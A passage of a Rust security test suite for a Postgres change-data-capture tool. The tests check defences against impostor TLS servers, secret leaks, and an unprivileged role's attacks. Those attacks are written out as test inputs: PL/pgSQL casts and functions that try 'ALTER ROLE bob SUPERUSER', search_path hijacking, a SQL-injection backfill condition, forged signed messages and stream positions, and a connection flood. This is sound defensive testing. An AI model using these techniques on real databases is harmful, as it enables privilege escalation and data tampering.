        }
        "M1" => {
            let (status, headers, body) =
                split_response(&raw(w.metrics, b"GET /metrics HTTP/1.1\r\nHost: m\r\nConnection: close\r\n\r\n").await);
            ensure!(status == 200, "{status}");
            for secret in [BOT, PAY, "alice-pw", "bob-pw", "never-log-me"] {
                ensure!(!body.contains(secret), "{secret} in /metrics");
            }
            ensure!(header(&headers, "x-content-type-options") == Some("nosniff"), "{headers:?}");
            ensure!(
                metric_value(&body, "pgevents_rules_invalid").unwrap_or(0.0) >= 1.0,
                "invalid rules are not counted"
            );
            Ok(())
        }
        "C1" => {
            let log = w.worker.stderr();
            for secret in [BOT, "123456%3AABC", PAY, "alice-pw", "bob-pw", "never-log-me"] {
                ensure!(!log.contains(secret), "{secret} in the worker's log");
            }
            Ok(())
        }
        other => Err(format!("no such cell {other}")),
    }
}

// ---------------------------------------------------------------------------------------------
// Connections

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connections() {
    let world = World::new().await;
    let ca = TestCa::new("impostor CA");
    let certificate = ca.server("impostor", &["localhost", "127.0.0.1"]);
    run_cells(NETWORK_CELLS, |id| network_cell(id, &world, &certificate)).await;
    delete_exchange(&world.exchange).await;
}

/// A TLS server on a free local port presenting `certificate` (of a CA nobody trusts), and the
/// task serving it.
async fn impostor_tls_server(
    certificate: &pgevents_testkit::CertPair,
) -> Result<(u16, tokio::task::JoinHandle<()>), String> {
    let acceptor = Arc::new(server_tls_acceptor(certificate));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.map_err(|e| e.to_string())?;
    let port = listener.local_addr().map_err(|e| e.to_string())?.port();
    let server = tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let acceptor = acceptor.clone();
            tokio::spawn(async move {
                let _ = acceptor.accept(stream).await;
            });
        }
    });
    Ok((port, server))
}

async fn network_cell(id: &str, world: &World, certificate: &pgevents_testkit::CertPair) -> Verdict {
    match id {
        "N1" => {
            for play in [ImpostorPlay::OkAfterClientFirst, ImpostorPlay::OkWithoutServerFinal] {
                let impostor = ImpostorPg::start(certificate, play).await;
                let config = pgevents_pg::ConnectConfig {
                    host: "127.0.0.1".into(),
                    port: impostor.addr.port(),
                    user: "pgevents".into(),
                    password: Some("the real password".into()),
                    dbname: "app".into(),
                    application_name: "security matrix".into(),
                    tls: pgevents_pg::TlsMode::Require,
                    ssl_root_cert: None,
                    ssl_cert: None,
                    channel_binding: pgevents_pg::ChannelBinding::Require,
                    connect_timeout: Duration::from_secs(5),
                    passfile: None,
                    search_path: Default::default(),
                };
                let result = pgevents_replication::ReplicationClient::connect(&config).await;
                let error = result.err().map(|e| e.to_string()).unwrap_or_default();
                ensure!(error.contains("before proving"), "{play:?}: the impostor was believed ({error:?})");
            }
            Ok(())
        }
        "N2" => {
            // A "broker" with a certificate of a CA the producer does not trust.
            let (port, server) = impostor_tls_server(certificate).await?;
            world.pg.execute("CREATE TABLE IF NOT EXISTS n2 (id int PRIMARY KEY)").await;
            let url = format!("amqps://guest:guest@localhost:{port}/%2f");
            let env = world.producer_env(&[("RABBITMQ_URL", &url), ("PGTABLES", "public.n2")]);
            let mut check = PgEventsProcess::spawn(&["check"], &env);
            let code = check.wait(WAIT).await;
            server.abort();
            let out = check.stdout();
            ensure!(code == Some(1), "the check passed against an impostor broker: {out}");
            ensure!(out.to_lowercase().contains("certificate"), "{out}");
            Ok(())
        }
        "N3" => {
            // The same impostor, for the stream protocol over TLS.
            let (port, server) = impostor_tls_server(certificate).await?;
            world.pg.execute("CREATE TABLE IF NOT EXISTS n3 (id int PRIMARY KEY)").await;
            let url = format!("rabbitmq-stream+tls://guest:guest@localhost:{port}/%2f");
            let env = world.producer_env(&[
                ("PGTABLES", "public.n3"),
                ("PGEVENTS_PUBLISH_TO", "stream"),
                ("PGEVENTS_STREAM", "n3"),
                ("PGEVENTS_STREAM_URL", &url),
            ]);
            let mut check = PgEventsProcess::spawn(&["check"], &env);
            let code = check.wait(WAIT).await;
            server.abort();
            let out = check.stdout();
            ensure!(code == Some(1), "the check passed against an impostor stream broker: {out}");
            ensure!(out.contains("RabbitMQ stream") && out.to_lowercase().contains("certificate"), "{out}");
            Ok(())
        }
        other => Err(format!("no such cell {other}")),
    }
}

// ---------------------------------------------------------------------------------------------
// The producer

/// A producer with an initial snapshot of a publication that lists some tables, one of them
/// bob's, whose type carries casts that would make bob superuser if the producer ran them.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn producer_surfaces() {
    let world = World::new().await;
    world
        .pg
        .execute(
            "CREATE ROLE bob LOGIN PASSWORD 'bob'; GRANT CREATE ON DATABASE postgres TO bob;
             CREATE TABLE public.listed (id int PRIMARY KEY, n numeric, j json);
             CREATE TABLE public.unlisted (id int PRIMARY KEY, ssn text);
             INSERT INTO public.listed VALUES (1, 1, '{}'); INSERT INTO public.unlisted VALUES (1, '078-05-1120');
             CREATE TABLE public.keyed (k text PRIMARY KEY);
             GRANT INSERT, SELECT ON public.listed, public.keyed TO bob;",
        )
        .await;
    let bob = connect_as(&world.pg, "bob", "bob").await;
    bob.batch_execute(
        "CREATE SCHEMA bobs;
         CREATE TYPE bobs.boom AS (x int);
         CREATE FUNCTION bobs.escalate() RETURNS void LANGUAGE plpgsql AS $f$
         BEGIN
             IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
                 -- (The snapshot's read-only transaction stops ALTER ROLE, not COPY ... TO PROGRAM.)
                 RAISE WARNING 'BOB-RAN-AS-A-SUPERUSER';
                 EXECUTE 'ALTER ROLE bob SUPERUSER';
             END IF;
         END $f$;
         CREATE FUNCTION bobs.boom_text(bobs.boom) RETURNS text LANGUAGE plpgsql AS $f$
         BEGIN PERFORM bobs.escalate(); RETURN ($1).x::text; END $f$;
         CREATE FUNCTION bobs.boom_from(text) RETURNS bobs.boom LANGUAGE plpgsql AS $f$
         BEGIN PERFORM bobs.escalate(); RETURN row($1::int)::bobs.boom; END $f$;
         CREATE CAST (bobs.boom AS text) WITH FUNCTION bobs.boom_text(bobs.boom);
         CREATE CAST (text AS bobs.boom) WITH FUNCTION bobs.boom_from(text);
         CREATE TABLE bobs.t (id int PRIMARY KEY, b bobs.boom);
         CREATE TABLE bobs.k (b bobs.boom PRIMARY KEY);
         INSERT INTO bobs.t VALUES (1, row(1)), (2, row(2));
         INSERT INTO bobs.k VALUES (row(1)), (row(2)), (row(3));",
    )
    .await
    .expect("bob's tables");
    world.pg.execute("CREATE PUBLICATION limited FOR TABLE public.listed, public.keyed, bobs.t, bobs.k").await;
    let queue = tokio::sync::Mutex::new(world.queue(&["#"]).await);
    let producer = world
        .producer(&[
            ("PGPUBLICATION", "limited"),
            ("PGEVENTS_SNAPSHOT", "initial"),
            ("PGEVENTS_SNAPSHOT_BATCH_ROWS", "1"),
            ("PGEVENTS_MAX_CONTEXT_BYTES", "8192"),
            ("PGEVENTS_PK_HASH_HEADER", "pk"),
        ])
        .await;
    world.pg.execute("GRANT USAGE ON SCHEMA pgevents TO bob").await;
    let state = ProducerWorld { world: &world, bob, queue };
    run_cells(PRODUCER_CELLS, |id| producer_cell(id, &state)).await;
    stop(producer).await;
    state.queue.into_inner().close().await;
    delete_exchange(&world.exchange).await;
}

struct ProducerWorld<'a> {
    world: &'a World,
    bob: tokio_postgres::Client,
    queue: tokio::sync::Mutex<EventQueue>,
}

impl ProducerWorld<'_> {
    /// Bodies of the events that arrive until `done` says so, or none comes for 5 s.
    async fn bodies_until(&self, done: impl Fn(&Value) -> bool) -> Vec<Value> {
        let mut queue = self.queue.lock().await;
        let mut out = Vec::new();
        while let Some(delivery) = queue.next_raw(Duration::from_secs(5)).await {
            let body: Value = serde_json::from_slice(&delivery.body).unwrap_or(Value::Null);
            let last = done(&body);
            out.push(body);
            if last {
                break;
            }
        }
        out
    }
}

async fn producer_cell(id: &str, p: &ProducerWorld<'_>) -> Verdict {
    let pg = &p.world.pg;
    match id {
        "P1" => {
            // The snapshot read bob's tables (a composite column; a composite key, paged).
            let seen = std::cell::Cell::new((false, false));
            let snapshot = p
                .bodies_until(|e| {
                    let (mut t, mut k) = seen.get();
                    t |= e["table_name"] == "bobs.t" && e["new"]["id"] == 2;
                    k |= e["table_name"] == "bobs.k" && e["new"]["b"] == "(3)";
                    seen.set((t, k));
                    t && k
                })
                .await;
            let read: Vec<String> =
                snapshot.iter().map(|e| format!("{} {}", e["table_name"].as_str().unwrap_or("?"), e["new"])).collect();
            ensure!(
                read.iter().any(|r| r.starts_with("bobs.t") && r.contains("(2)")),
                "bob's rows were not read: {read:?}"
            );
            let superuser = pg.query_text("SELECT rolsuper::text FROM pg_roles WHERE rolname = 'bob'").await;
            ensure!(superuser.as_deref() == Some("false"), "the snapshot ran bob's casts as the producer");
            ensure!(!pg.log().contains("BOB-RAN-AS-A-SUPERUSER"), "bob's function ran as a superuser");
            ensure!(!read.iter().any(|r| r.starts_with("public.unlisted")), "P2 as well: {read:?}");
            Ok(())
        }
        "P2" => {
            pg.execute(
                "INSERT INTO public.unlisted VALUES (2, '219-09-9999'); INSERT INTO public.listed VALUES (2, 2, '{}')",
            )
            .await;
            let bodies = p.bodies_until(|e| e["table_name"] == "public.listed" && e["new"]["id"] == 2).await;
            ensure!(
                !bodies.iter().any(|e| e["table_name"] == "public.unlisted"),
                "a table out of the publication: {bodies:?}"
            );
            Ok(())
        }
        "P3" => {
            // A role allowed to attach context (signed), with far too much of it.
            pg.execute("GRANT EXECUTE ON FUNCTION pgevents.context(jsonb) TO bob").await;
            let huge = json!({"x": "A".repeat(20_000)}).to_string();
            let sent = p
                .bob
                .batch_execute(&format!(
                    "BEGIN; SELECT pgevents.context('{huge}'); INSERT INTO public.listed VALUES (3, 3, '{{}}'); COMMIT;"
                ))
                .await;
            pg.execute("REVOKE EXECUTE ON FUNCTION pgevents.context(jsonb) FROM bob").await;
            sent.map_err(|e| e.to_string())?;
            pg.execute("INSERT INTO public.listed VALUES (4, 4, '{}')").await;
            let bodies = p.bodies_until(|e| e["new"]["id"] == 4).await;
            let three = bodies.iter().find(|e| e["new"]["id"] == 3);
            ensure!(
                three.is_some_and(|e| e.get("context").is_none_or(Value::is_null)),
                "the oversized context: {:?}",
                three.map(|e| e.to_string().len())
            );
            ensure!(bodies.iter().any(|e| e["new"]["id"] == 4), "the producer stopped after it");
            Ok(())
        }
        "P4" => {
            let nested = format!("{}1{}", "[".repeat(200), "]".repeat(200));
            p.bob
                .batch_execute(&format!(
                    "INSERT INTO public.listed VALUES (5, 1{zeros}, '{nested}'); INSERT INTO public.listed VALUES (6, 6, '1e400');",
                    zeros = "0".repeat(400)
                ))
                .await
                .map_err(|e| e.to_string())?;
            let bodies = p.bodies_until(|e| e["new"]["id"] == 6).await;
            let five = bodies.iter().find(|e| e["new"]["id"] == 5);
            let six = bodies.iter().find(|e| e["new"]["id"] == 6);
            ensure!(
                five.is_some() && six.is_some(),
                "a change a JSON parser cannot read was hidden: {} events",
                bodies.len()
            );
            ensure!(five.is_some_and(|e| e["new"]["n"].is_string() && e["new"]["j"].is_string()), "{five:?}");
            ensure!(six.is_some_and(|e| e["new"]["j"] == "1e400"), "{six:?}");
            Ok(())
        }
        "P5" => {
            // A 150 kB key (compressible, so it can be indexed): as a header it would not fit in
            // an AMQP frame, and the producer would fail to publish it again and again.
            p.bob
                .batch_execute("INSERT INTO public.keyed VALUES (repeat('k', 150000)); INSERT INTO public.listed VALUES (7, 7, '{}');")
                .await
                .map_err(|e| format!("{e}: {:?}", e.as_db_error().map(|d| d.message())))?;
            let mut queue = p.queue.lock().await;
            let mut headers = Vec::new();
            while let Some(delivery) = queue.next_raw(Duration::from_secs(10)).await {
                let body: Value = serde_json::from_slice(&delivery.body).unwrap_or(Value::Null);
                headers.push((body["table_name"].as_str().unwrap_or("?").to_owned(), delivery.header("pk")));
                if body["table_name"] == "public.listed" && body["new"]["id"] == 7 {
                    break;
                }
            }
            let keyed = headers.iter().find(|(table, _)| table == "public.keyed");
            ensure!(keyed.is_some(), "the event with the huge key did not arrive (or the next one): {headers:?}");
            ensure!(
                headers.iter().all(|(_, pk)| pk.as_ref().is_some_and(|pk| pk.len() == 32)),
                "every event carries a 32-character row key: {headers:?}"
            );
            Ok(())
        }
        "W1" => {
            // Every signing function, and the internal ones, without EXECUTE.
            for call in [
                "SELECT pgevents.context('{\"uid\": 1}')",
                "SELECT pgevents.skip()",
                "SELECT pgevents.outbox('k', '{}')",
                "SELECT pgevents._emit_signed('skip', '')",
                "SELECT pgevents._new_message_key()",
                "SELECT pgevents.rotate_message_key()",
            ] {
                let refused = p.bob.batch_execute(call).await.err().and_then(|e| e.code().cloned());
                ensure!(
                    refused == Some(tokio_postgres::error::SqlState::INSUFFICIENT_PRIVILEGE),
                    "{call}: {refused:?}"
                );
            }
            Ok(())
        }
        "W2" => {
            // The messages anyone may write: unsigned, forged, and a genuine signature of
            // another transaction copied into bob's; none hides bob's change or adds context.
            let keys = pg.client().await;
            let row = keys
                .query_one("SELECT kid, key FROM pgevents.message_key ORDER BY kid DESC LIMIT 1", &[])
                .await
                .map_err(|e| e.to_string())?;
            let (kid, secret): (i32, Vec<u8>) = (row.get(0), row.get(1));
            let attempts: Vec<Vec<u8>> = vec![
                br#"{"skip": true, "uid": 1}"#.to_vec(),
                format!("v1|{kid}|1|skip|{}|", "0".repeat(64)).into_bytes(),
                pgevents_decode::signal::sign(kid, &secret, 7, pgevents_decode::signal::SignalKind::Skip, b""),
                pgevents_decode::signal::sign(
                    kid,
                    &secret,
                    7,
                    pgevents_decode::signal::SignalKind::Context,
                    br#"{"uid": 1}"#,
                ),
            ];
            for (i, content) in attempts.into_iter().enumerate() {
                let id = 100 + i as i32;
                p.bob.batch_execute("BEGIN").await.map_err(|e| e.to_string())?;
                p.bob
                    .execute("SELECT pg_logical_emit_message(true, 'pgevents', $1::bytea)", &[&content])
                    .await
                    .map_err(|e| e.to_string())?;
                p.bob
                    .execute("INSERT INTO public.listed VALUES ($1, 1, '{}')", &[&id])
                    .await
                    .map_err(|e| e.to_string())?;
                p.bob.batch_execute("COMMIT").await.map_err(|e| e.to_string())?;
                let bodies = p.bodies_until(|e| e["new"]["id"] == id).await;
                let event = bodies.iter().find(|e| e["new"]["id"] == id);
                ensure!(event.is_some(), "attempt {i} hid bob's change");
                ensure!(
                    event.is_some_and(|e| e.get("context").is_none_or(Value::is_null)),
                    "attempt {i} attached context: {event:?}"
                );
            }
            Ok(())
        }
        "W3" => {
            // The signing key: not readable, not unprotectable, not even with pg_read_all_data.
            let read = p.bob.query("SELECT key FROM pgevents.message_key", &[]).await;
            ensure!(read.is_err(), "bob read the keys");
            let unprotect = p.bob.batch_execute("ALTER TABLE pgevents.message_key DISABLE ROW LEVEL SECURITY").await;
            ensure!(unprotect.is_err(), "bob lifted the keys' row-level security");
            pg.execute("CREATE ROLE auditor LOGIN PASSWORD 'auditor'; GRANT pg_read_all_data TO auditor;").await;
            let auditor = connect_as(pg, "auditor", "auditor").await;
            let rows = auditor.query("SELECT key FROM pgevents.message_key", &[]).await.map_err(|e| e.to_string())?;
            ensure!(rows.is_empty(), "pg_read_all_data read {} keys", rows.len());
            Ok(())
        }
        "W4" => {
            // A role allowed to publish outbox messages names only a routing key: not the
            // exchange, not the headers pgevents writes, nothing longer than AMQP carries.
            pg.execute("GRANT EXECUTE ON FUNCTION pgevents.outbox(text, jsonb, text, jsonb) TO bob").await;
            let long = "k".repeat(256);
            let mut verdict = Ok(());
            for call in [
                "SELECT pgevents.outbox('k', '{}', NULL, '{\"lsn\": \"0/0\"}')".to_owned(),
                "SELECT pgevents.outbox('k', '{}', NULL, '{\"outbox\": \"false\"}')".to_owned(),
                "SELECT pgevents.outbox('k', '{}', NULL, '{\"table\": \"public.listed\"}')".to_owned(),
                "SELECT pgevents.outbox('k', '{}', NULL, '{\"CC\": \"public.listed\"}')".to_owned(),
                "SELECT pgevents.outbox('k', '{}', NULL, '{\"x-match\": \"all\"}')".to_owned(),
                "SELECT pgevents.outbox('k', '{}', NULL, jsonb_build_object('h', repeat('v', 17000)))".to_owned(),
                "SELECT pgevents.outbox('k', '{}', NULL, '{\"n\": 1}')".to_owned(),
                format!("SELECT pgevents.outbox('{long}', '{{}}')"),
                format!("SELECT pgevents.outbox('k', '{{}}', '{long}')"),
            ] {
                let refused = p.bob.batch_execute(&call).await.err().and_then(|e| e.code().cloned());
                if refused != Some(tokio_postgres::error::SqlState::INVALID_PARAMETER_VALUE) {
                    verdict = Err(format!("{call}: {refused:?}"));
                    break;
                }
            }
            pg.execute("REVOKE EXECUTE ON FUNCTION pgevents.outbox(text, jsonb, text, jsonb) FROM bob").await;
            verdict
        }
        "W5" => {
            // bob's functions named like the built-ins the signing functions call, first on his
            // search_path: the functions pin theirs, so nothing of bob's runs as their owner.
            pg.execute("GRANT EXECUTE ON FUNCTION pgevents.context(jsonb) TO bob").await;
            let planted = p
                .bob
                .batch_execute(
                    "CREATE SCHEMA IF NOT EXISTS bobs;
                     CREATE OR REPLACE FUNCTION bobs.plant() RETURNS void LANGUAGE plpgsql AS $f$
                     BEGIN
                         RAISE WARNING 'BOB-RAN-IN-A-SIGNING-FUNCTION';
                         IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
                             EXECUTE 'ALTER ROLE bob SUPERUSER';
                         END IF;
                     END $f$;
                     CREATE OR REPLACE FUNCTION bobs.jsonb_typeof(jsonb) RETURNS text LANGUAGE plpgsql AS $f$
                     BEGIN PERFORM bobs.plant(); RETURN 'object'; END $f$;
                     CREATE OR REPLACE FUNCTION bobs.format(text, VARIADIC text[]) RETURNS text LANGUAGE plpgsql AS $f$
                     BEGIN PERFORM bobs.plant(); RETURN 'v1|1|1|skip|'; END $f$;
                     SET search_path = bobs, pg_catalog, public;
                     SELECT pgevents.context('{\"planted\": true}');
                     RESET search_path;",
                )
                .await;
            pg.execute("REVOKE EXECUTE ON FUNCTION pgevents.context(jsonb) FROM bob").await;
            planted.map_err(|e| e.to_string())?;
            let superuser = pg.query_text("SELECT rolsuper::text FROM pg_roles WHERE rolname = 'bob'").await;
            ensure!(superuser.as_deref() == Some("false"), "bob's function ran as the signing functions' owner");
            ensure!(
                !pg.log().contains("BOB-RAN-IN-A-SIGNING-FUNCTION"),
                "bob's function ran inside a signing function"
            );
            Ok(())
        }
        "W6" => {
            // An outbox message made to look like a row event (the table's routing key, an
            // event's body): it goes to the outbox exchange, never where events are consumed.
            pg.execute("GRANT EXECUTE ON FUNCTION pgevents.outbox(text, jsonb, text, jsonb) TO bob").await;
            let forged = json!({"table_name": "public.listed", "action": "D", "old": {"id": 1}, "new": {}, "id": {"id": 1}, "lsn": "0/1", "seq": 0});
            let sent =
                p.bob.batch_execute(&format!("SELECT pgevents.outbox('public.listed', '{forged}', '0/1:0')")).await;
            pg.execute("REVOKE EXECUTE ON FUNCTION pgevents.outbox(text, jsonb, text, jsonb) FROM bob").await;
            sent.map_err(|e| e.to_string())?;
            pg.execute("INSERT INTO public.listed VALUES (60, 60, '{}')").await;
            let bodies = p.bodies_until(|e| e["new"]["id"] == 60).await;
            ensure!(
                !bodies.iter().any(|e| e["action"] == "D" && e["old"]["id"] == 1),
                "a forged event reached the events exchange: {bodies:?}"
            );
            ensure!(bodies.iter().any(|e| e["new"]["id"] == 60), "the events stopped");
            Ok(())
        }
        "W7" => {
            // bob owns a table others write to, with a trigger that asks to skip (or attach
            // context to) their transactions: refused inside a trigger, so theirs is published.
            pg.execute("GRANT EXECUTE ON FUNCTION pgevents.skip(), pgevents.context(jsonb) TO bob").await;
            let planted = p
                .bob
                .batch_execute(
                    "CREATE SCHEMA IF NOT EXISTS bobs;
                     CREATE TABLE bobs.shared (n int);
                     GRANT INSERT ON bobs.shared TO PUBLIC;
                     CREATE FUNCTION bobs.hide() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER AS $f$
                     BEGIN
                         BEGIN PERFORM pgevents.skip(); EXCEPTION WHEN others THEN NULL; END;
                         BEGIN PERFORM pgevents.context('{\"uid\": \"bob\"}'); EXCEPTION WHEN others THEN NULL; END;
                         RETURN NEW;
                     END $f$;
                     CREATE TRIGGER hide AFTER INSERT ON bobs.shared FOR EACH ROW EXECUTE FUNCTION bobs.hide();",
                )
                .await;
            pg.execute("REVOKE EXECUTE ON FUNCTION pgevents.skip(), pgevents.context(jsonb) FROM bob").await;
            planted.map_err(|e| e.to_string())?;
            pg.execute(
                "BEGIN; INSERT INTO bobs.shared VALUES (1); INSERT INTO public.listed VALUES (70, 70, '{}'); COMMIT;",
            )
            .await;
            let bodies = p.bodies_until(|e| e["new"]["id"] == 70).await;
            let event = bodies.iter().find(|e| e["new"]["id"] == 70);
            ensure!(event.is_some(), "the trigger hid another role's transaction");
            ensure!(
                event.is_some_and(|e| e.get("context").is_none_or(Value::is_null)),
                "the trigger attached context to another role's transaction: {event:?}"
            );
            Ok(())
        }
        "W8" => {
            // Backfills: not without EXECUTE on pgevents.snapshot(), and with it only of tables
            // the caller may read.
            let refused = p.bob.batch_execute("SELECT pgevents.snapshot(ARRAY['public.listed'])").await;
            let code = refused.err().and_then(|e| e.code().cloned());
            ensure!(code == Some(tokio_postgres::error::SqlState::INSUFFICIENT_PRIVILEGE), "without EXECUTE: {code:?}");
            pg.execute("GRANT EXECUTE ON FUNCTION pgevents.snapshot(text[], text, text) TO bob").await;
            let unreadable = p.bob.batch_execute("SELECT pgevents.snapshot(ARRAY['public.unlisted'])").await;
            pg.execute("REVOKE EXECUTE ON FUNCTION pgevents.snapshot(text[], text, text) FROM bob").await;
            let code = unreadable.err().and_then(|e| e.code().cloned());
            ensure!(
                code == Some(tokio_postgres::error::SqlState::INSUFFICIENT_PRIVILEGE),
                "a table bob cannot read: {code:?}"
            );
            let asked = pg.query_text("SELECT count(*)::text FROM pgevents.backfill WHERE relname = 'unlisted'").await;
            ensure!(asked.as_deref() == Some("0"), "a request was recorded");
            Ok(())
        }
        "W9" => {
            // Another role's backfill: not cancelled, not even seen.
            let id = pg
                .query_text("SELECT pgevents.snapshot(ARRAY['public.listed'], 'elsewhere')::text")
                .await
                .unwrap_or_default();
            pg.execute("GRANT EXECUTE ON FUNCTION pgevents.snapshot_cancel(bigint) TO bob").await;
            let cancelled = p.bob.query_one(&format!("SELECT pgevents.snapshot_cancel({id})"), &[]).await;
            pg.execute("REVOKE EXECUTE ON FUNCTION pgevents.snapshot_cancel(bigint) FROM bob").await;
            let cancelled: bool = cancelled.map_err(|e| e.to_string())?.get(0);
            ensure!(!cancelled, "bob cancelled the superuser's backfill");
            let state = pg.query_text(&format!("SELECT status FROM pgevents.backfill WHERE id = {id}")).await;
            ensure!(state.as_deref() == Some("queued"), "{state:?}");
            let seen = p.bob.query("SELECT * FROM pgevents.backfill", &[]).await;
            ensure!(seen.is_err(), "bob read the backfill requests");
            pg.execute("GRANT EXECUTE ON FUNCTION pgevents.snapshot_status(integer) TO bob").await;
            let listed = p.bob.query("SELECT id FROM pgevents.snapshot_status()", &[]).await;
            pg.execute("REVOKE EXECUTE ON FUNCTION pgevents.snapshot_status(integer) FROM bob").await;
            let listed = listed.map_err(|e| e.to_string())?;
            ensure!(listed.is_empty(), "bob saw {} backfills of others", listed.len());
            pg.execute(&format!("SELECT pgevents.snapshot_cancel({id})")).await;
            Ok(())
        }
        "W10" => {
            // A partial backfill's condition is bob's text: it runs as bob (his function would
            // say so if it ran as the producer), it cannot drop bob's role to fall back to the
            // producer's login role, and whatever it says it cannot add rows of its own to the
            // table's events.
            pg.execute("GRANT EXECUTE ON FUNCTION pgevents.snapshot(text[], text, text) TO bob").await;
            let planted = p
                .bob
                .batch_execute(
                    "CREATE SCHEMA IF NOT EXISTS bobs;
                     CREATE OR REPLACE FUNCTION bobs.spy(n int) RETURNS boolean LANGUAGE plpgsql AS $f$
                     BEGIN
                         IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
                             RAISE WARNING 'BOB-CONDITION-RAN-AS-A-SUPERUSER';
                         END IF;
                         RETURN true;
                     END $f$;
                     CREATE OR REPLACE FUNCTION bobs.become_the_producer() RETURNS boolean LANGUAGE plpgsql AS $f$
                     BEGIN
                         PERFORM set_config('role', 'none', true);
                         IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
                             RAISE WARNING 'BOB-CONDITION-RAN-AS-A-SUPERUSER';
                         END IF;
                         RETURN true;
                     END $f$;
                     GRANT USAGE ON SCHEMA bobs TO PUBLIC;
                     SELECT pgevents.snapshot(ARRAY['public.listed'], NULL, 'bobs.spy(id)');
                     SELECT pgevents.snapshot(ARRAY['public.listed'], NULL, 'bobs.become_the_producer()');
                     SELECT pgevents.snapshot(ARRAY['public.listed'], NULL,
                         'true) UNION SELECT false) FROM (SELECT (r).*) AS t), false) UNION SELECT coalesce((SELECT (true');",
                )
                .await;
            pg.execute("REVOKE EXECUTE ON FUNCTION pgevents.snapshot(text[], text, text) FROM bob").await;
            planted.map_err(|e| e.to_string())?;
            wait_for("bob's backfills to end", WAIT, || async {
                let open = pg
                    .query_text("SELECT count(*)::text FROM pgevents.backfill WHERE requested_by = 'bob' AND status IN ('queued', 'running')")
                    .await;
                (open.as_deref() == Some("0")).then_some(())
            })
            .await;
            let superuser = pg.query_text("SELECT rolsuper::text FROM pg_roles WHERE rolname = 'bob'").await;
            ensure!(superuser.as_deref() == Some("false"), "bob became a superuser");
            ensure!(!pg.log().contains("BOB-CONDITION-RAN-AS-A-SUPERUSER"), "bob's condition ran as the producer");
            let injected = pg
                .query_text("SELECT status || ': ' || coalesce(error, '') FROM pgevents.backfill WHERE requested_by = 'bob' AND condition LIKE 'true)%'")
                .await
                .unwrap_or_default();
            ensure!(injected.starts_with("failed"), "the condition that tries to add rows: {injected}");
            let dropped_role = pg
                .query_text("SELECT status || ': ' || coalesce(error, '') FROM pgevents.backfill WHERE requested_by = 'bob' AND condition LIKE '%become_the_producer%'")
                .await
                .unwrap_or_default();
            ensure!(dropped_role.starts_with("failed"), "the condition that drops bob's role: {dropped_role}");
            Ok(())
        }
        other => Err(format!("no such cell {other}")),
    }
}

// ---------------------------------------------------------------------------------------------
// The stream output (`--publish-to stream`)

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stream_output() {
    let world = World::new().await;
    world.pg.execute("CREATE TABLE s (id int PRIMARY KEY)").await;
    run_cells(STREAM_CELLS, |id| stream_cell(id, &world)).await;
    delete_exchange(&world.exchange).await;
}

async fn stream_cell(id: &str, world: &World) -> Verdict {
    let stream = unique_name("matrix_stream");
    let url = pgevents_testkit::stream_url();
    let env = |extra: &[(&str, &str)]| {
        let mut all = vec![
            ("PGTABLES", "public.s"),
            ("PGEVENTS_PUBLISH_TO", "stream"),
            ("PGEVENTS_STREAM", stream.as_str()),
            ("PGEVENTS_STREAM_URL", url.as_str()),
        ];
        all.extend_from_slice(extra);
        world.producer_env(&all)
    };
    let verdict = match id {
        "B3" => {
            // The producer streams a change, then a broker user appends a message that claims to
            // be its last, at a position far past the database's WAL.
            let mut producer = PgEventsProcess::spawn(&["producer"], &env(&[]));
            producer.wait_for_log("streaming", WAIT).await;
            world.pg.execute("INSERT INTO s VALUES (1)").await;
            let stored = wait_for("the change in the stream", WAIT, || async {
                pgevents_testkit::read_stream(&stream, Duration::from_secs(1), 1).await.into_iter().next()
            })
            .await;
            producer.terminate();
            let _ = producer.wait(WAIT).await;
            let name = stored.properties["producer"].clone();
            let last: u64 = stored.properties["publishing_id"].parse().map_err(|e| format!("{e}"))?;
            let stream_url: pgevents_stream::StreamUrl = url.parse().map_err(|e| format!("{e}"))?;
            let mut forger = pgevents_stream::StreamPublisher::connect(
                &stream_url,
                &stream,
                pgevents_stream::Dedup::Named(name.clone()),
                "forger",
                Duration::from_secs(10),
            )
            .await
            .map_err(|e| e.to_string())?;
            let forged = pgevents_stream::OutgoingStreamMessage {
                body: b"{}".to_vec(),
                message_id: "forged".into(),
                content_type: None,
                content_encoding: None,
                application_properties: vec![
                    ("lsn".into(), "FFFF/FFFF0000".into()),
                    ("seq".into(), "0".into()),
                    ("action".into(), "I".into()),
                    ("publishing_id".into(), (last + 1).to_string()),
                    ("producer".into(), name),
                ],
            };
            forger.send(forged).await.map_err(|e| e.to_string())?;
            forger.flush().await.map_err(|e| e.to_string())?;
            forger.next_confirm().await.map_err(|e| e.to_string())?;
            forger.close().await;
            let mut producer = PgEventsProcess::spawn(&["producer"], &env(&[]));
            let code = producer.wait(WAIT).await;
            let log = producer.stderr();
            ensure!(code != Some(0), "the producer believed the forged position: {log}");
            ensure!(log.contains("someone else wrote it"), "{log}");
            Ok(())
        }
        "G11" => {
            // Subscribers ask for events older than the gateway keeps in memory (each a replay on
            // a stream connection of its own) and hang up at once, many times over: the gateway
            // never holds more connections than its replay slots allow, and none once they left.
            let max_replays = 2;
            let slots = max_replays.to_string();
            let gw = Gateway::start_over(
                Over::Stream,
                world,
                &stream,
                &[("PGEVENTS_MAX_REPLAYS", slots.as_str()), ("PGEVENTS_CLIENT_BUFFER", "10")],
            )
            .await;
            let producer = Over::Stream.producer(world, &stream, &[("PGTABLES", "public.s")]).await;
            let mut reader = gw.subscribe("/events?pk=1100", &[("X-Consumer-Id", "watch")]).await;
            world.pg.execute("INSERT INTO s SELECT generate_series(1000, 1100)").await;
            reader.next(WAIT).await.ok_or("the gateway read the rows")?;
            let addr = gw.addr;
            let attack = tokio::spawn(async move {
                for round in 0..60u64 {
                    if let Ok(mut socket) = tokio::net::TcpStream::connect(addr).await {
                        let request = "GET /events HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Consumer-Id: attacker\r\nLast-Event-ID: 0\r\n\r\n";
                        let _ = socket.write_all(request.as_bytes()).await;
